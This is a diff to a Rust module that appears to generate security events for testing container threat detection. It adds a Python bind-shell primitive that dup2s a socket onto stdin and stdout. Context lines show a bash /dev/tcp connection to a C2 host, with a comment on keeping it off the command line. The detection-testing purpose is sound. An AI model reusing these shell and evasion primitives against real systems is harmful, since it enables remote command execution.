@@ -6,11 +6,12 @@ use std::process::Command;
 
 use anyhow::{Context as _, Result};
 
-use super::{act, py, work, Action, Ctx, C2};
+use super::{act, py, work, Action, Ctx, C2, NAMES};
 
 pub(crate) fn actions() -> Vec<Action> {
     vec![
         act!("dup2 socket onto stdout", REDIRECT, "T1059.004", redirect_stdout),
+        act!("bind shell: accept + dup2", REDIRECT, "T1059.004", bind_shell),
         act!("mount proc (syscall)", "Sensitive filesystem mounted in container", "T1611", mount_proc),
         act!("bpf(BPF_PROG_LOAD)", "BPF program loaded in container", "T1014", bpf_prog_load),
         act!("userfaultfd (uid 1000)", "Userfaultfd in container", "T1068", userfaultfd),
@@ -27,6 +28,22 @@ fn redirect_stdout(c: &Ctx) -> Result<()> {
     // The script comes on stdin, so no command line shows /dev/tcp: bash opens the
     // socket as fd 3, then `>&3` makes it dup2(3, 1) for the builtin's output.
     c.pod.run("bash", &[], None, Some(&format!("exec 3<>/dev/tcp/{C2}/443\necho lnr-evtgen >&3\n")))
+}
+
+fn bind_shell(c: &Ctx) -> Result<()> {
+    // A bind shell's core in python: listen on the pod's address, accept the "attacker"
+    // (the pod itself connecting to that address: nothing leaves the pod's netns), then
+    // dup2 the accepted socket onto stdin/stdout as `os.dup2(conn.fileno(), 0)` does.
+    py(
+        c,
+        &format!(
+            "import os, socket\ns = socket.socket()\ns.bind(('{ip}', 0))\ns.listen(1)\n\
+             peer = socket.create_connection(s.getsockname())\nconn, _ = s.accept()\n\
+             os.dup2(conn.fileno(), 0)\nos.dup2(conn.fileno(), 1)",
+            ip = NAMES.pod_ip
+        ),
+        None,
+    )
 }
 
 fn mount_proc(c: &Ctx) -> Result<()> {
